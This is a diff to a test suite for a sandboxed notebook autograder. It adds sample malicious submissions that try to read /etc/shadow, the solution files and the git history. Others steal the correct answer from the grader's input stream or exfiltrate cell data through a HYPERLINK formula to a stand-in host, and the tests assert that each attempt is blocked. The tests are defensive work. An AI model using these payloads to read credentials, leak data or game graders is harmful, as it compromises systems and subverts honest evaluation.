@@ -29,6 +29,19 @@ from course_grader.batch import grade_all
 from course_grader.sandbox import Limits, isolation
 
 SOLUTION = str(Path(__file__).resolve().parents[2] / "solutions" / "01_gradient_descent.ipynb")
+
+
+def _git_head():
+    """The course's git HEAD (every version of the solutions is in that folder's objects)."""
+    dot_git = Path(SOLUTION).parents[1] / ".git"
+    if dot_git.is_file():  # a worktree: the objects are in the repository's common folder
+        folder = dot_git.parent / dot_git.read_text().split(":", 1)[1].strip()
+        common = folder / "commondir"
+        dot_git = (folder / common.read_text().strip()) if common.exists() else folder
+    return str(dot_git.resolve() / "HEAD")
+
+
+HISTORY = _git_head()
 LIMITS = Limits(cell_seconds=1, total_seconds=30, memory_bytes=2**30, disk_bytes=32 * 2**20)
 ROOT = os.geteuid() == 0
 FULL = 4.0  # q1 2 points, q2 1, q3 1
@@ -175,6 +188,9 @@ ATTACKS = {
         "    for _ in range(48):\n        f.write(bytes(2**20))\n        f.flush()\n"
         "        written += 1\n"
         "except OSError as error:\n    print('STOPPED', error)\nprint('UNLINKED-MIB', written)"),
+    # A link to a folder in the work folder (the clean-up once stopped at it, as a non-root user).
+    "links_a_folder": honest_with("import os\nos.symlink('/tmp', 'outside')\nos.mkdir('inside')\n"
+                                  "os.symlink('../inside', 'inside/loop')"),
     "unreadable_folder": honest_with(
         "import os\nos.mkdir('locked')\nopen('locked/data', 'wb').write(bytes(2**20))\n"
         "os.chmod('locked', 0o300)"),
@@ -189,7 +205,7 @@ ATTACKS = {
         "        except OSError:\n            pass\n"
         "others = [pid for pid in mine if open(f'/proc/{pid}/stat').read().split()[5] != "
         "open('/proc/self/stat').read().split()[5]]\nprint('SIGNALLABLE-OTHERS', len(others))\n"
-        "for path in ['/etc/shadow', SOLUTIONS, OTHER_SUBMISSION]:\n    try:\n"
+        "for path in ['/etc/shadow', SOLUTIONS, OTHER_SUBMISSION, HISTORY]:\n    try:\n"
         "        open(path, 'rb').read(1)\n        print('READ-OPEN', path)\n"
         "    except OSError as error:\n        print('READ-BLOCKED', type(error).__name__)"),
 }
@@ -235,12 +251,12 @@ OTHER_CASES = {
         "open('grades.csv', 'w').write('file,score\\nfake_result_files.ipynb,4.0\\n')\n"
         "os._exit(0)"),
     "calls_reference": notebook(
-        SETUP, Q1, Q2, "from course_lib.quadratic import condition_number as cn\n"
+        SETUP, Q1, Q2, "from course_lib.quadratic_rates import condition_number as cn\n"
         "def kappa(eigenvalues):\n    import sys\n    sys.setprofile(None)\n"
         "    return cn(eigenvalues)"),
     "calls_reference_in_a_thread": notebook(
         SETUP, Q1, Q2, "import importlib, threading\ndef kappa(eigenvalues):\n    out = []\n"
-        "    f = getattr(importlib.import_module('course_lib.' + 'quadratic'), "
+        "    f = getattr(importlib.import_module('course_lib.' + 'quadratic_rates'), "
         "'condition_' + 'number')\n"
         "    worker = threading.Thread(target=lambda: out.append(f(eigenvalues)))\n"
         "    worker.start()\n    worker.join()\n    return out[0]"),
@@ -258,7 +274,7 @@ OTHER_CASES = {
                                   "def summary(values):\n    return np.zeros(15 * 10**5)", Q3),
     # The answers computed in advance, in a cell, from the test cases found in the child's memory.
     "precomputes_answers": notebook(
-        SETUP, Q1, Q2, "from course_lib.quadratic import condition_number\nimport gc\n"
+        SETUP, Q1, Q2, "from course_lib.quadratic_rates import condition_number\nimport gc\n"
         "job = next(o for o in gc.get_objects() if type(o) is dict and 'skip_cells' in o)\n"
         "cache = {}\nfor spec in job['questions']:\n    for case in spec['cases']:\n"
         "        data = case['tuple'][0]['array']['data'] if spec['id'] == 'q3' else None\n"
@@ -266,8 +282,8 @@ OTHER_CASES = {
         "def kappa(eigenvalues):\n    return cache[tuple(eigenvalues.tolist())]"),
     "formula_as_exercise": notebook(*HONEST, exercise='=HYPERLINK("http://x.example/?"&A1)'),
     "calls_reference_by_attribute": notebook(
-        SETUP, Q1, Q2, "import course_lib.quadratic as quadratic\n"
-        "def kappa(eigenvalues):\n    return quadratic.condition_number(eigenvalues)"),
+        SETUP, Q1, Q2, "import course_lib.quadratic_rates as quadratic_rates\n"
+        "def kappa(eigenvalues):\n    return quadratic_rates.condition_number(eigenvalues)"),
     "invalid_json": b'{"nbformat": 4, "cells": [',
     "not_a_notebook": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
     "json_list": b"[1, 2, 3]",
@@ -333,6 +349,7 @@ def _write_submissions(folder, cases, port, outside):
     for name, content in cases.items():
         content = (content.replace(b"PORT", str(port).encode())
                    .replace(b"SOLUTIONS", repr(SOLUTION).encode())
+                   .replace(b"HISTORY", repr(HISTORY).encode())
                    .replace(b"OTHER_SUBMISSION", repr(str(folder / "honest.ipynb")).encode())
                    .replace(b"SECRET", str(outside / "secret.txt").encode())
                    .replace(b"PWNED", str(outside / "pwned.txt").encode()))
@@ -587,7 +604,7 @@ def test_code_that_can_evade_the_watch_is_pointed_out(strong):
         "q3 forbidden: calls condition_number")
     assert strong["records"]["calls_reference_in_a_thread"]["status"] == (
         "read cell 4: getattr, importlib, threading can get answers from course_lib unseen; "
-        "q3 forbidden: calls course_lib.quadratic.condition_number")
+        "q3 forbidden: calls course_lib.quadratic_rates.condition_number")
     assert strong["records"]["honest"]["status"] == "ok"
 
 
@@ -773,6 +790,21 @@ def test_feedback_names_are_distinct_and_safe():
     assert names[5] == "é" * 50
 
 
+def test_a_submission_named_index_cannot_replace_the_class_index(tmp_path):
+    """reports/index.html lists the whole class; a notebook named index.ipynb once had its
+    report written there and then replaced by the index (a student sent their report would
+    have received every grade of the class)."""
+    (tmp_path / "class").mkdir()
+    for name in ("index", "INDEX", "alice"):
+        (tmp_path / "class" / f"{name}.ipynb").write_bytes(notebook(*HONEST))
+    _grade_in_time([tmp_path / "class"], tmp_path / "out", exercise=fx.EXERCISE)
+    reports = sorted(path.name for path in (tmp_path / "out" / "reports").iterdir())
+    assert len(reports) == 4 and "index.html" in reports
+    index = (tmp_path / "out" / "reports" / "index.html").read_text()
+    assert all(f'href="{name}"' in index or f"href='{name}'" in index
+               for name in reports if name != "index.html")
+
+
 def _reports(text):
     """What the grader reads from a child that sends ``text`` on its result pipe."""
     from course_grader.sandbox import _Results
@@ -951,7 +983,7 @@ def test_7_the_child_cannot_reach_out(graded):
     output = record["output"]
     if graded["use_bubblewrap"] or ROOT:
         assert "CGROUP-WRITTEN" not in output and "SIGNALLABLE-OTHERS 0" in output
-        assert output.count("READ-BLOCKED") == 3 and "READ-OPEN" not in output
+        assert output.count("READ-BLOCKED") == 4 and "READ-OPEN" not in output
 
 
 def test_2_a_learner_named_module_is_never_imported_by_the_grader(tmp_path, monkeypatch):
@@ -1101,13 +1133,13 @@ def test_unprivileged_bubblewrap_holds_against_the_attacks(unprivileged):
     assert "MEMFD-BLOCKED" in records["memfd"]["output"]
     for name in ("memory_bomb", "fork_bomb", "unlinked_file", "unreadable_folder",
                  "forked_memory", "infinite_loop", "swallows_timeouts", "segfault",
-                 "leaves_notes"):
+                 "leaves_notes", "links_a_folder"):
         assert records[name]["score"] == FULL, (name, records[name]["status"])
     assert _left_by_a_child() == []
     # 7. nothing outside the sandbox reached
     output = records["reaches_out"]["output"]
     assert "CGROUP-WRITTEN" not in output and "SIGNALLABLE-OTHERS 0" in output
-    assert output.count("READ-BLOCKED") == 3
+    assert output.count("READ-BLOCKED") == 4
     assert "TOP-SECRET" not in records["files_outside"]["output"]
     assert not (unprivileged["base"] / "pwned.txt").exists()
     folder = unprivileged["base"] / "submissions"
@@ -1158,6 +1190,25 @@ def adamw_step(theta, g, m, v, t, lr, beta1, beta2, eps, weight_decay):
     os._exit(0)  # graded again without q4: may the rerun read the stash?
 """
 
+# A thread waiting on the child's input for the correct adam_step, to hand it in as q3's.
+STEALS_THE_SECOND_LINE = """
+import json, os, threading, types
+import numpy as np
+stolen = []
+def steal():
+    while data := os.read(0, 2**20):
+        stolen.append(data)
+threading.Thread(target=steal, daemon=True).start()
+def adam_step(theta, g, m, v, t, lr, beta1, beta2, eps):
+    for line in b''.join(stolen).splitlines():
+        for sources in json.loads(line).values():
+            for spec in sources.values():
+                scope = {'np': np}
+                exec(spec['source'], scope)
+                return scope[spec['name']](theta, g, m, v, t, lr, beta1, beta2, eps)
+    raise NotImplementedError
+"""
+
 
 def _lesson_4(**cells):
     """Lesson 4's solution with code cells replaced: {"c9": source} replaces cell 9."""
@@ -1171,6 +1222,7 @@ ADAM_CASES = {
     "honest": _lesson_4(),
     "finds_adam_step": _lesson_4(c9=FINDS_ADAM_STEP),  # adam_step (q3) from the grader's data
     "stashes_adam_step": _lesson_4(c9=READS_A_STASH, c14=WRITES_A_STASH),
+    "steals_adam_step": _lesson_4(c9=STEALS_THE_SECOND_LINE),
 }
 
 
@@ -1212,11 +1264,11 @@ def lesson_4(request, tmp_path_factory):
             (base / "submissions" / f"{name}__{LESSON_4}.ipynb").write_bytes(content)
         if request.param == "unprivileged":
             records = _grade_as_unprivileged(base, "--exercise", LESSON_4, "--jobs", "2",
-                                             "--timeout", "10")
+                                             "--timeout", "20")  # check's own limit
         else:
             records = {Path(r["file"]).stem.split("__")[0]: r for r in grade_all(
                 [base / "submissions"], base / "out", exercise=LESSON_4, jobs=2,
-                limits=Limits(cell_seconds=10, total_seconds=120),
+                limits=Limits(cell_seconds=20, total_seconds=240),
                 use_bubblewrap=request.param == "bubblewrap", progress=io.StringIO())}
         yield records
     finally:
@@ -1234,3 +1286,39 @@ def test_5_the_correct_adam_step_never_counts_as_the_learners(lesson_4):
     assert "STASH-READ" not in stashed["output"]
     assert scores(stashed) == {"q1": 2, "q2": 2, "q3": 0, "q4": 0, "q5": 2}
     assert [path for path in STASHES if os.path.lexists(path)] == []
+    # Read from the child's input by a thread: it comes after q3 is scored (and q4 and q5,
+    # graded with it, lose their points if the thread took it first).
+    stolen = scores(lesson_4["steals_adam_step"])
+    assert stolen["q3"] == 0 and stolen["q1"] == stolen["q2"] == 2
+
+
+def test_the_first_report_of_a_question_stands_across_reruns(tmp_path, monkeypatch):
+    """A rerun is a new child that runs the learner's cells again: what it reports for a
+    question already reported by an earlier run (where, say, a note kept between the runs could
+    have helped it) changes nothing."""
+    from course_grader import batch
+    from course_grader.sandbox import ChildRun
+    from course_lib.grading import plain as data
+
+    runs = []
+
+    def fake_run_job(job, limits, seconds, use_bubblewrap, hide, later=None):
+        cases = [data.decode(case) for case in job["questions"][0]["cases"]]
+        right = [{"value": data.encode(fx.gd_step(*case))} for case in cases]
+        wrong = [{"value": data.encode(-fx.gd_step(*case))} for case in cases]
+        first = not runs
+        runs.append(job)
+        questions = ({"q1": {"outcomes": wrong}} if first else
+                     {"q1": {"outcomes": right}, "q2": {"missing": "none"},
+                      "q3": {"missing": "none"}})
+        result = {"sources": [""] * len(job["cells"]), "cells": [], "questions": questions,
+                  "running": {"question": "q2", "case": 0} if first else None,
+                  "done": not first}
+        return ChildRun(result, "", 0, -9 if first else 0, False)
+
+    path = tmp_path / f"reruns__{fx.EXERCISE}.ipynb"
+    path.write_bytes(notebook(*HONEST))
+    monkeypatch.setattr(batch, "run_job", fake_run_job)
+    record = batch.grade_submission(path, fx.EXERCISE, LIMITS)
+    assert len(runs) == 2 and runs[1]["skip_questions"] == ["q2"]
+    assert scores(record) == {"q1": 0, "q2": 0, "q3": 0}
